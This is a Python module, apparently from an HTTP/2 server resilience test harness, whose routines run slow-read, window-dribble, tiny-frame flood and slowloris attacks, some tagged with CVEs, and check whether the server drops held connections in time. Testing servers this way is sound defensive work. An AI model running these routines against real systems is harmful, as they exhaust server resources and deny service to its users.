"""Peers that hold what they have and give nothing back."""

import ssl
import socket
import time

import wire as w
from attack import attack


@attack("slow read: zero window held (CVE-2019-9517)")
def zero_window(t):
    # Large answers that nobody takes, on many streams.
    for _ in range(t.many(20)):
        conn = t.connect((w.INITIAL_WINDOW_SIZE, 0))
        try:
            for i in range(100):
                conn.send(t.open(conn, 2 * i + 1), w.data(2 * i + 1, w.message(b"x" * 8000), end=True))
                t.wire_bytes += 8100
        except w.Closed:
            pass
    time.sleep(min(3, t.seconds))
    t.note = f"{t.wire_bytes >> 10} KiB sent"


@attack("slow read: TCP window held shut")
def closed_tcp(t):
    for _ in range(t.many(20)):
        conn = t.connect((w.INITIAL_WINDOW_SIZE, 0x7FFFFFFF), rcvbuf=1024)
        try:
            conn.send(w.window_update(0, 0x7FFF0000))
            for i in range(100):
                conn.send(t.open(conn, 2 * i + 1), w.data(2 * i + 1, w.message(b"x" * 8000), end=True))
                t.wire_bytes += 8100
        except (w.Closed, TimeoutError):
            pass
    time.sleep(min(3, t.seconds))
    t.note = f"{t.wire_bytes >> 10} KiB sent"


@attack("data dribble: one byte of window at a time (CVE-2019-9511)")
def dribble(t):
    conn = t.connect((w.INITIAL_WINDOW_SIZE, 0))
    streams = range(1, 201, 2)
    try:
        for stream in streams:
            conn.send(t.open(conn, stream), w.data(stream, w.message(b"x" * 8000), end=True))
        t.flood(conn, lambda i: b"".join(w.window_update(s, 1) for s in streams), t.many(3000), pause=0.001)
    except w.Closed:
        t.closed_after = time.monotonic() - t.started


@attack("tiny DATA: a byte a frame, unread by the backend", quick=False)
def tiny(t):
    conn = t.connect()
    conn.send(*[t.open(conn, 2 * i + 1) for i in range(50)])
    t.flood(conn, lambda i: w.data(2 * (i % 50) + 1, b"x"), t.many(200000), every=250)


def holding(name, start, number=500, closed=12.0, **options):
    """Half of something, on many connections: each must be closed by a deadline, at little cost."""
    @attack(f"slowloris: {name}", **options)
    def run(t):
        conns = []
        for _ in range(t.many(number)):
            try:
                conns.append(start(t))
            except (OSError, w.Closed, TimeoutError):
                pass
        if t.scale == 1:
            gone = t.wait_closed(conns, closed)
            t.note = f"{gone} of {len(conns)} closed in {closed:.0f} s"
            t.verdict = gone == len(conns)
        else:
            time.sleep(1)
            t.note = f"{len(conns)} held"


def half(after, settings=True):
    def start(t):
        conn = t.connect() if settings else t.raw()
        conn.send(after(t, conn))
        return conn
    return start


def tls_hello(t):
    sock = socket.create_connection(t.front.tls, timeout=5)
    sock.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc")
    conn = w.Wire(sock)
    t.conns.append(conn)
    return conn


holding("half a TLS hello", tls_hello)
holding("nothing sent", lambda t: t.raw(), quick=False)
holding("half the preface", half(lambda t, c: w.PREFACE[:10], settings=False))
holding("no SETTINGS", half(lambda t, c: w.PREFACE, settings=False), quick=False)
holding("half a frame head", half(lambda t, c: b"\0\0"), quick=False)
holding("truncated PING (CVE-2026-110353)", half(lambda t, c: w.ping()[:12]))
holding("half a DATA frame", half(lambda t, c: t.open(c, 1) + w.data(1, bytes(1000))[:500]))
holding("stalled CONTINUATION", half(lambda t, c: w.headers(1, c.encode(t.request()), end_headers=False)))
holding("stalled after four CONTINUATIONs", half(lambda t, c: w.headers(1, c.encode(t.request()), end_headers=False)
                                                 + b"".join(w.continuation(1, w.literal("a", "b"), end_headers=False) for _ in range(4))), quick=False)
